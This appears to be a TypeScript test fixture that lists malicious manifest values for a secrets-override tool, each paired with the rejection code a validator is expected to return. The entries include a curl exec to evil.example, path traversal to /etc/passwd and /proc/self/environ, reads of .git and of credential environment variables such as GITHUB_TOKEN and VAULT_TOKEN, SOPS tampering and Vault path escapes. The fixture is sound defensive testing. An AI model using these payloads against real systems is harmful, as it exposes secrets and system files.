/** What a manifest asks for, what it must be told, and what else is special about it. */
export interface Attack {
  /** The content of `valueFrom`, from `PLACE` on. */
  readonly value: string;
  readonly code: string;
  readonly environment?: string;
  readonly sources?: string;
}

/** Line and column of the content of `valueFrom`. */
export const PLACE = '8:20';

/** Writes the manifest of an attack, which lies in a folder of the repository, beside its links. */
export const writeAttack = ({ environment = 'production', sources, value }: Attack, key: string): string =>
  `version: 1\norganization: Acme\nproject: shop\nenvironment: ${environment}\n${sources ?? '# no sources'}\n` +
  `overrides:\n  - { application: checkout, secret: ${key},\n      valueFrom: { ${value} } }\n`;

/** An attack by a file. */
export const file = (path: string, code = 'file-outside-root'): Attack => ({
  value: `file: { path: ${JSON.stringify(path)} }`,
  code,
});
const env = (name: string): Attack => ({ value: `env: ${name}`, code: 'env-credential' });
const sops = (name: string, code: string): Attack => ({
  value: `sops: { file: ${JSON.stringify(name)}, path: [a] }`,
  code,
});
const vault = (mount: string, path: string): Attack => ({
  value: `vault: { mount: ${JSON.stringify(mount)}, path: ${JSON.stringify(path)}, field: token }`,
  code: 'vault-bad-path',
});

/** Everything that a stranger's manifest may try with its values. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'a command': { value: 'exec: { command: [curl, "https://evil.example"] }', code: 'exec-not-allowed' },
  'a command that leaves a trace': { value: 'exec: { command: [touch, ../ran] }', code: 'exec-not-allowed' },
  'a command in a shared source': {
    value: 'source: s',
    sources: 'sources: { s: { exec: { command: [touch, ../ran] } } }',
    code: 'exec-not-allowed',
  },
  'the environment of the run': file('/proc/self/environ'),
  'a file of the machine': file('/etc/passwd'),
  'a file beside the repository': file('../../outside/secret'),
  'a file far up': file('../../../../../../../../etc/passwd'),
  'an encrypted file beside the repository': sops('../../outside/secret', 'file-outside-root'),
  'a link to a file outside': file('passwd.link'),
  'a link to a folder outside': file('outside.link/secret'),
  'a link to a device': file('zero.link'),
  'a target that leads out': { ...file('../certs/{environment}/outside/secret'), environment: '../../..' },
  "the repository's .git": file('../.git/config', 'file-in-git'),
  'another spelling of .git': file('../certs/../.GIT/config', 'file-in-git'),
  'a link into .git': file('git.link/config', 'file-in-git'),
  'a key file in use': file('../qoverride.key', 'file-is-key'),
  'the fingerprint key': env('QOVERRIDE_KEY'),
  'the fingerprint key in lower case': env('qoverride_key'),
  'the fingerprint key by way of the target': { ...env('"{environment}"'), environment: 'QOVERRIDE_KEY' },
  'the API token': env('QOVERY_API_TOKEN'),
  'the age key': env('SOPS_AGE_KEY'),
  "Vault's token": env('VAULT_TOKEN'),
  "GitHub's token": env('GITHUB_TOKEN'),
  'a workflow token': env('ACTIONS_ID_TOKEN_REQUEST_TOKEN'),
  'a SOPS file with a value put in': sops('../secrets/planted.yaml', 'plaintext-leaf'),
  'a SOPS file with a value taken away': sops('../secrets/cut.yaml', 'mac-mismatch'),
  'a SOPS file without a MAC': sops('../secrets/no-mac.yaml', 'no-mac'),
  'a SOPS file that names a server': sops('../secrets/server.yaml', 'sops-needs-program'),
  'a SOPS file of aliases': sops('../secrets/bomb.yaml', 'unsupported-yaml'),
  'a SOPS file that is nested deeply': sops('../secrets/deep.json', 'too-deep'),
  'a path out of a mount': vault('kv', '../../sys/raw/core'),
  'a mount that leads out': vault('kv/../sys', 'x'),
  'a path with dots': vault('kv', 'a/./b'),
  'a named pipe': file('../certs/pipe', 'file-not-plain'),
  'a folder': file('../certs', 'file-not-plain'),
  'a sparse file of 10 GB': file('../certs/sparse', 'file-too-large'),
};
